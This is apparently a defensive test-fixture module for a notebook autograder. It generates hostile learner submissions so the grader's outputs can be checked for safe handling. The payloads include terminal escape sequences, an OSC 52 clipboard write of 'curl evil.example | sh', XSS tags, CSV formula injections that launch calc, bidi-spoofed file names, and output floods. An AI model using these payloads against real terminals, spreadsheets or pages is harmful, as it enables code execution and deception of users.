"""Attacks on the instructor's outputs: floods of notes, huge messages, terminal escapes, CSV
formulas and HTML, carried by learner text (exception messages, grade ids, file names).

`build(ctx)` adds them to the one batch that `conftest.batch` grades (see tests/attacks/__init__.py);
tests/end_to_end/test_adversarial_outputs.py asserts what reaches the feedback pages, results, CSV and terminal.
"""

from __future__ import annotations

import base64
import json
import os

import nbformat

from conftest import learner_notebook, reference_notebook

KEY = "03_qkv"
ESC, BEL = "\x1b", "\x07"
CLIPBOARD = base64.b64encode(b"curl evil.example | sh\n").decode()
# Pieces a terminal obeys: move up and erase (then a fake progress line), a window title (OSC 0),
# the clipboard (OSC 52), an 8-bit CSI (C1), DEL, a right-to-left override, a bidi isolate.
ERASE = f"{ESC}[1A{ESC}[2K\rmallory: 23 / 23\n"
TITLE = f"{ESC}]0;graded: all full marks{BEL}"
OSC52 = f"{ESC}]52;c;{CLIPBOARD}{BEL}"
C1_DEL_BIDI = "\x9b31m\x7f\u202egnp.exe\u2066x\u2069"
SCRIPT = "<script>alert('xss')</script>"
IMG = '<img src=x onerror="alert(1)">'
PAYLOAD = ERASE + TITLE + OSC52 + C1_DEL_BIDI + SCRIPT + IMG
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'

FLOOD_CELLS, FLOOD_PER_CELL = 500, 100  # 50,000 top-level statements that each raise while loading
SYNTAX_CELLS = 1900                     # a note per cell: each has a syntax error
BIG_CHARS = 5_000_000                   # a learner exception message of megabytes
FLOODED = ("flood_load_errors", "flood_syntax_cells", "huge_message")
SPAM_FILES = 3000                       # rejected entries inside one learner's folder

# A helper that raises the message it is given, so that any text (escapes included) becomes
# a learner error at load time or in a call.
BOOM = "def _boom(message):\n    raise ValueError(message)\n"
PAYLOAD_SRC = "_P = " + repr(PAYLOAD) + "\n"


def _dict(nb) -> dict:
    return json.loads(nbformat.writes(nb))


def _code(source: str, meta: dict | None = None) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": meta or {}, "outputs": [], "source": source}


def _with_cells(cells: list[dict], base=None) -> dict:
    d = _dict(base if base is not None else reference_notebook(KEY))
    d["cells"] += cells
    return d


def _forged(gid: str) -> dict:
    """A grade cell that is not part of the exercise: the submission is rejected and its reason names the cell."""
    return _code("assert True", {"nbgrader": {"grade": True, "grade_id": gid, "locked": True, "points": 1,
                                              "schema_version": 3, "solution": False}})


def flood_load_errors() -> dict:
    """A correct notebook plus 50,000 top-level assignments that each raise a message of escapes and markup."""
    # No `[` or `{` in the message: the worker's reply is refused above 100,000 of them (counted in
    # its raw text), which would drop the notes and cost the learner every check instead.
    flood = "_F = " + repr(TITLE + OSC52 + SCRIPT + "A" * 300) + "\n"
    body = "".join(f"_e{i} = _boom(_F)\n" for i in range(FLOOD_PER_CELL))
    cells = [_code(BOOM + flood)] + [_code(body) for _ in range(FLOOD_CELLS)]
    return _with_cells(cells)


def flood_syntax_cells() -> dict:
    """A correct notebook plus a cell per note: 1,900 cells with a syntax error, each labelled by a
    grade_id that carries terminal escapes and markup (the label is part of every note)."""
    cells = [_code("def broken(:\n", {"nbgrader": {"grade": False, "solution": False, "locked": False,
                                                     "grade_id": f"{ESC}]0;t{i}{BEL}{SCRIPT}{i}"}})
             for i in range(SYNTAX_CELLS)]
    return _with_cells(cells)


def huge_message() -> dict:
    """Exception messages of megabytes, at load time and from a graded function (a hint)."""
    src = (BOOM + PAYLOAD_SRC + f"_BIG = _P + 'A' * {BIG_CHARS}\n"
           "def softmax(x, axis=-1):\n    raise ValueError(_BIG)\n"
           "_load_error = _boom(_BIG)\n")
    return _with_cells([_code(src)])


def escape_grade_ids() -> dict:
    """Forged grade cells whose grade_ids are terminal escapes: the reason (shown on the progress
    line before) erased the lines above, printed a fake score, retitled the window, set the clipboard."""
    cells = [_forged(ERASE), _forged(TITLE), _forged(OSC52), _forged(C1_DEL_BIDI + "\r\n" + ERASE)]
    return _with_cells(cells)


def escape_in_notes() -> dict:
    """A graded notebook whose notes and hints carry escapes and markup (a cell label and messages)."""
    meta = {"nbgrader": {"grade": False, "solution": False, "locked": False, "grade_id": ERASE + TITLE}}
    src = BOOM + PAYLOAD_SRC + "_x = _boom(_P)\n"
    calls = ("def causal_mask(size, device=None):\n    raise ValueError(_P)\n")
    return _with_cells([_code(src, meta), _code(calls)])


def csv_formula() -> dict:
    """A forged grade cell whose grade_id is a spreadsheet formula: it reaches the CSV's reason column."""
    return _with_cells([_forged(FORMULA), _forged("@SUM(1+1)*cmd|' /C calc'!A0"), _forged("-2+3+cmd|' /C calc'!A0")])


def html_injection() -> dict:
    """Markup in a hint, a note and a (rejected-cell-free) label: the feedback page must show it as text."""
    meta = {"nbgrader": {"grade": False, "solution": False, "locked": False, "grade_id": IMG}}
    src = BOOM + f"_x = _boom({SCRIPT!r})\n"
    calls = f"def padding_mask(tokens, pad_id=0):\n    raise ValueError({IMG!r})\n"
    return _with_cells([_code(src, meta), _code(calls)], base=reference_notebook(KEY))


# File names that become rejected entries: what the progress output, the log and --json show of them.
BAD_NAMES = {
    "escapes": f"evil{ESC}[2J{ESC}]0;t{BEL}{ESC}]52;c;{CLIPBOARD}{BEL}\nmallory: 23 \u2215 23.ipynb",  # U+2215 looks like /
    "bidi": "report\u202egnp.ipynb",
    "c1": "c1\x9b31mred\x7f.ipynb",
}
BAD_BYTES = b"latin1-\xff\xfe.ipynb"  # not UTF-8: Python sees lone surrogates


def build(ctx) -> None:
    nbs = ctx.nbs
    nbs["flood_load_errors"] = flood_load_errors()
    nbs["flood_syntax_cells"] = flood_syntax_cells()
    nbs["huge_message"] = huge_message()
    nbs["escape_grade_ids"] = escape_grade_ids()
    nbs["escape_in_notes"] = escape_in_notes()
    nbs["csv_formula"] = csv_formula()
    nbs["html_injection"] = html_injection()
    stub = nbformat.writes(learner_notebook(KEY))
    for name in BAD_NAMES.values():
        (ctx.subs / name).write_text(stub, encoding="utf-8")
    with open(os.path.join(os.fsencode(ctx.subs), BAD_BYTES), "w", encoding="utf-8") as f:
        f.write(stub)
    # A learner's own folder holding thousands of hidden notebooks: the rejected list is capped.
    nbs["spammer"] = reference_notebook(KEY)
    spam = ctx.subs / "spammer" / KEY
    spam.mkdir(parents=True)
    for i in range(SPAM_FILES):
        (spam / f".spam{ESC}[2K{i:04d}.ipynb").write_text("{}", encoding="utf-8")
    ctx.extra["outputs"] = {"bad_names": BAD_NAMES, "bad_bytes": BAD_BYTES}
